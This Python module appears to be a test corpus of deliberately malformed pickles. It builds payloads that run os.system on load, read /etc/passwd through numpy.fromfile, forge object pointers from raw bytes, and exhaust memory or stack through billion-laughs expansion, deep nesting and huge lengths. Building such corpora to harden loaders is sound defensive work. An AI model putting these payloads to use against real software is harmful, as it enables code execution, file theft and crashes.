"""Pickles that no program writes, each made to crash, fill or take over whoever opens it."""

import pickle
import struct

import numpy as np

Crafted = dict[str, bytes]


def name(module: str, attribute: str) -> bytes:
    """A thing that may be called."""
    return f"c{module}\n{attribute}\n".encode()


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def group(*parts: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


NONE, YES, NO = b"N", b"\x88", b"\x89"
EMPTY_ARRAY = (
    name("numpy._core.multiarray", "_reconstruct")
    + group(name("numpy", "ndarray"), group(number(0)), data(b"b"))
    + b"R"
)


def dtype(code: str, state: bytes = b"") -> bytes:
    return name("numpy", "dtype") + group(text(code), NO, YES) + b"R" + (state + b"b" if state else b"")


def plain_state(order: str = "<") -> bytes:
    return group(number(3), text(order), NONE, NONE, NONE, number(-1), number(-1), number(0))


def fields_state(hidden: bytes) -> bytes:
    """A record whose only field is an object, declared without objects: the bytes become pointers."""
    fields = b"}" + text("f") + group(hidden, number(0)) + b"s"
    return group(number(3), text("|"), NONE, group(text("f")), fields, number(8), number(1), number(16))


def array(shape: bytes, kind: bytes, content: bytes) -> bytes:
    return EMPTY_ARRAY + group(number(1), shape, kind, NO, content) + b"b"


def whole(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def laughs(levels: int) -> bytes:
    """A list of ten lists of ten lists …, each of them one."""
    out = b"](" + data(b"x" * 10) * 10 + b"e"
    for level in range(levels):
        put, get = b"q" + bytes([level]), b"h" + bytes([level])
        out += put + b"0](" + get * 10 + b"e"
    return out


DEEP = 200_000  # a hash that goes so far down leaves the stack of the process
POINTER = b"\xef\xbe\xad\xde" * 2
EIGHT = plain_state()
CRAFTED: Crafted = {
    "fields that are objects": array(group(number(1)), dtype("V8", fields_state(dtype("O8"))), data(POINTER)),
    "fields of f8 told to be objects": array(group(number(1)), dtype("f8", fields_state(dtype("O8"))), data(POINTER)),
    "subarray": array(
        group(number(1)),
        dtype(
            "V8",
            group(
                number(3), text("|"), group(dtype("O8"), group(number(1))), NONE, NONE, number(8), number(1), number(16)
            ),
        ),
        data(POINTER),
    ),
    "dtype of another size": array(
        group(number(1)),
        dtype("S1", group(number(3), text("|"), NONE, NONE, NONE, number(1 << 30), number(1), number(0))),
        data(b"x"),
    ),
    "objects from bytes": array(group(number(1)), dtype("O8"), data(POINTER)),
    "objects from a buffer": name("numpy._core.numeric", "_frombuffer")
    + group(data(POINTER), dtype("O8"), group(number(1)), text("C"))
    + b"R",
    "scalar of objects": name("numpy._core.multiarray", "scalar") + group(dtype("O8"), data(POINTER)) + b"R",
    "scalar of records": name("numpy._core.multiarray", "scalar")
    + group(dtype("V8", fields_state(dtype("O8"))), data(POINTER))
    + b"R",
    "negative side": array(group(number(-1)), dtype("f8", EIGHT), data(POINTER)),
    "huge shape": array(group(number(2**31 - 1), number(2**31 - 1)), dtype("f8", EIGHT), data(POINTER)),
    "shape whose product overflows": array(group(*[number(1 << 16)] * 4), dtype("f8", EIGHT), data(b"")),
    "bytes too few": array(group(number(2)), dtype("f8", EIGHT), data(POINTER)),
    "characters that are none": array(group(number(1)), dtype("U1", EIGHT), data(b"\xff\xff\xff\x7f")),
    "an array told twice": array(group(number(1)), dtype("f8", EIGHT), data(POINTER))
    + group(number(1), group(number(1)), dtype("O8"), NO, data(POINTER))
    + b"b",
    "a state for a list": b"]" + b"}b",
    "subclass of array": name("numpy._core.multiarray", "_reconstruct")
    + group(name("numpy", "memmap"), group(number(0)), data(b"b"))
    + b"R",
    "matrix": name("numpy._core.multiarray", "_reconstruct")
    + group(name("numpy.matrixlib.defmatrix", "matrix"), group(number(0)), data(b"b"))
    + b"R",
    "call of numpy's own": name("numpy._core.multiarray", "fromfile") + group(text("/etc/passwd")) + b"R",
    "instance": b"(" + text("true") + b"ios\nsystem\n",
    "new object": name("builtins", "object") + b")\x81",
    "extension": b"\x82\x01",
    "persistent id": b"Pthe id\n",
    "buffer from elsewhere": b"\x97",
    "memo far away": b"Nr\xff\xff\xff\x7f" + b"j\x00\x00\x00\x00",
    "bytes of eight exabytes": b"\x8e" + struct.pack("<Q", 1 << 62),
    "text of two gigabytes": b"X\xff\xff\xff\x7f",
    "a long of two gigabytes": b"\x8b\xff\xff\xff\x7f",
    "list in itself": b"]q\x00h\x00a",
    "array in itself": EMPTY_ARRAY + b"q\x00" + group(number(1), group(number(1)), dtype("O8"), NO, b"]h\x00a") + b"b",
    "very deep": b"]" * DEEP + b"a" * (DEEP - 1),
    "very deep as a key": b"}" + b")" + b"\x85" * DEEP + b"Ns",
    "a billion laughs": laughs(9),
    "mark that is not there": b"t",
    "nothing on the stack": b"0" * 3,
    "number of a million digits": b"I" + b"9" * 1_000_000 + b"\n",
}


def crafted() -> Crafted:
    return {key: whole(body) for key, body in CRAFTED.items()}


def record_with_object() -> bytes:
    """What numpy writes of a record that holds an object."""
    return pickle.dumps(np.array([(1.0, {})], [("a", "f8"), ("b", "O")]), 2)
